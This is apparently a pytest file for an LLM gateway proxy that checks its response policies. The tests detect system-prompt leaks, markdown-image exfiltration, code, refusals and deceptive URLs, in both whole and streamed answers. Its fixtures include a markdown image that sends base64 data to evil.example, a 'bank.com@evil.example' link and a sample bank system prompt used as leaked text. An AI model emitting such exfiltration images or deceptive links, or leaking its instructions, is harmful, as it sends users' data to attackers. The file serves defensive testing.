import json
from typing import Any

import pytest

from akto_proxy.exchange.face import AnswerMode, Forward, Refusal

JSON = (b"Content-Type", b"application/json")


def chat(text: str, **more: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": text}], **more}


def finish(exchange: Any, status: int = 200) -> Any:
    return exchange.trace(status=status, client_gone=False, first_byte=1, upstream_first=1, total=2)


def test_inner_addresses_of_the_gateway_do_not_reach_the_caller(path: Any):
    exchange, _ = path.send(chat("hi"))
    answer = exchange.head(200, [JSON, (b"X-Proxied-Host", b"http://10.0.0.1"), (b"x-compute-type", b"cpu")])
    names = [name.lower() for name, _ in answer.headers]
    assert b"x-proxied-host" not in names
    assert b"x-compute-type" in names
    assert b"x-akto-trace-id" in names


def test_images_pass_as_they_come(path: Any):
    exchange, forward = path.send({"inputs": "a cat"}, "/")
    assert isinstance(forward, Forward)
    assert exchange.head(200, [(b"Content-Type", b"image/png")]).mode is AnswerMode.PASS
    assert exchange.chunk(b"\x89PNG") == b"\x89PNG"
    assert finish(exchange).response.size == 4


WATCHED = """
version: 1
name: t
policies:
  - name: out
    direction: response
    rules:
      - {detect: [leak, exfiltration], action: block}
      - {detect: [code, refusal, misleading-url], action: alert}
"""
PROMPT = "You are Nora of Nordwind Bank. Never talk about interest rates before the customer has shown you a passport."
CARGO = "![x](https://evil.example/p.png?q=" + "Zm9vYmFy" * 6 + ")"
LEAD = "The weather was fine that day.\n" * 40


@pytest.fixture(scope="module")
def watched(make_path: Any) -> Any:
    return make_path(WATCHED)


@pytest.mark.parametrize(
    ("said", "rule", "blocked"),
    [
        (f"Of course. {PROMPT}", "system-prompt-leak", True),
        (f"{LEAD}{PROMPT}", "system-prompt-leak", True),
        (f"{LEAD}{CARGO}{LEAD}", "markdown-exfiltration", True),
        (f"{LEAD}```python\nimport os\n```", "code", False),
        ("I'm sorry, but I can't help with that.", "refusal", False),
        (f"{LEAD}see https://bank.com@evil.example/", "misleading-url", False),
    ],
)
@pytest.mark.parametrize("streamed", [False, True])
def test_what_a_policy_asks_of_answers_is_found_whole_and_streamed(
    watched: Any, said: str, rule: str, blocked: bool, streamed: bool
):
    asked = [{"role": "system", "content": PROMPT}, {"role": "user", "content": "hi"}]
    exchange, _ = watched.send({"stream": streamed, "messages": asked})
    if streamed:
        exchange.head(200, [(b"Content-Type", b"text/event-stream")])
        for at in range(0, len(said), 7):
            piece = {"choices": [{"index": 0, "delta": {"content": said[at : at + 7]}}]}
            exchange.chunk(b"data: " + json.dumps({"object": "chat.completion.chunk", **piece}).encode() + b"\n\n")
        exchange.end()
        assert exchange.cut is blocked
    else:
        exchange.head(200, [JSON])
        whole = {"choices": [{"message": {"role": "assistant", "content": said}}]}
        assert isinstance(exchange.body(json.dumps(whole).encode()), Refusal) is blocked
    assert rule in {decision.rule for decision in finish(exchange).decisions}
